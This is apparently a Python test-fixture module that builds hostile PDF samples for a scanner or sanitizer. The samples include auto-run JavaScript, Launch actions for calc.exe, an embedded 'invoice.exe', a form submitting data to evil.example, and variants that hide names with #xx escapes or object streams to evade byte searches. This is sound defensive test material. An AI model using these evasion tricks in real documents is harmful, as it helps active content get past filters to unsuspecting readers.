"""PDFs with every kind of active content or embedded payload, written the ways that slipped
past a search of the raw bytes: names with #xx escapes, objects in compressed object streams."""

import io

import pikepdf

from tests.workshops.files import new_pdf, pdf

Name = pikepdf.Name
Dictionary = pikepdf.Dictionary


def _script():
    return Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert('x')"))


def _with_root(**entries):
    def build():
        document = new_pdf()
        for key, value in entries.items():
            document.Root[f"/{key}"] = value(document) if callable(value) else value
        return pdf(document)

    return build


def _with_annotation(**fields):
    def build():
        document = new_pdf()
        annotation = Dictionary(Type=Name.Annot, Rect=[0, 0, 10, 10], **fields)
        document.pages[0].Annots.append(document.make_indirect(annotation))
        return pdf(document)

    return build


def _embedded_file(document):
    stream = document.make_stream(b"MZ\x90\x00", Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=pikepdf.String("invoice.exe"), EF=Dictionary(F=stream))


def _escaped(respellings: dict[bytes, bytes], build):
    """The file written without object streams, then names re-spelled with #xx escapes."""

    def respelled():
        document = pikepdf.open(io.BytesIO(build()))
        data = pdf(document, object_stream_mode=pikepdf.ObjectStreamMode.disable)
        for name, escaped in respellings.items():
            assert name in data
            data = data.replace(name, escaped)
        return data

    return respelled


def _in_object_stream(build):
    def compressed():
        document = pikepdf.open(io.BytesIO(build()))
        return pdf(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)

    return compressed


_open_script = _with_root(OpenAction=lambda d: d.make_indirect(_script()))
_launch_link = _with_annotation(
    Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=pikepdf.String("calc.exe"))
)

HOSTILE = {
    "a script run on opening": _open_script,
    "a document-level script": _with_root(
        Names=lambda d: Dictionary(JavaScript=Dictionary(Names=[pikepdf.String("a"), _script()]))
    ),
    "a script named with #xx escapes": _escaped(
        {b"/JavaScript": b"/J#61vaScript", b"/JS": b"/J#53"}, _open_script
    ),
    "a script inside a compressed object stream": _in_object_stream(_open_script),
    "a link that launches a program": _launch_link,
    "a launch named with #xx escapes": _escaped({b"/Launch": b"/L#61unch"}, _launch_link),
    "a launch inside a compressed object stream": _in_object_stream(_launch_link),
    "actions run on page events": lambda: _page_actions(),
    "an embedded file": _with_root(
        Names=lambda d: Dictionary(EmbeddedFiles=Dictionary(Names=["x", _embedded_file(d)]))
    ),
    "a file attachment annotation": lambda: _attachment_annotation(),
    "a form that submits its data": _with_annotation(
        Subtype=Name.Widget,
        FT=Name.Btn,
        A=Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://evil.example/")),
    ),
    "a form that imports data": _with_annotation(
        Subtype=Name.Widget, A=Dictionary(S=Name.ImportData, F=pikepdf.String("data.fdf"))
    ),
    "an XML form (XFA)": _with_root(
        AcroForm=lambda d: Dictionary(Fields=[], XFA=d.make_stream(b"<xdp:xdp/>"))
    ),
    "a jump into another file": _with_annotation(
        Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=pikepdf.String("other.pdf"), D=[0])
    ),
    "a jump into an embedded file": _with_annotation(
        Subtype=Name.Link, A=Dictionary(S=Name.GoToE, D=[0])
    ),
    "rich media": _with_annotation(Subtype=Name.RichMedia),
    "a movie": _with_annotation(Subtype=Name.Movie),
    "a sound": _with_annotation(Subtype=Name.Sound),
    "a 3D model": _with_annotation(Subtype=Name("/3D")),
}


def _page_actions():
    document = new_pdf()
    document.pages[0].AA = Dictionary(O=_script())
    return pdf(document)


def _attachment_annotation():
    document = new_pdf()
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=[0, 0, 10, 10],
        FS=_embedded_file(document),
    )
    document.pages[0].Annots.append(document.make_indirect(annotation))
    return pdf(document)
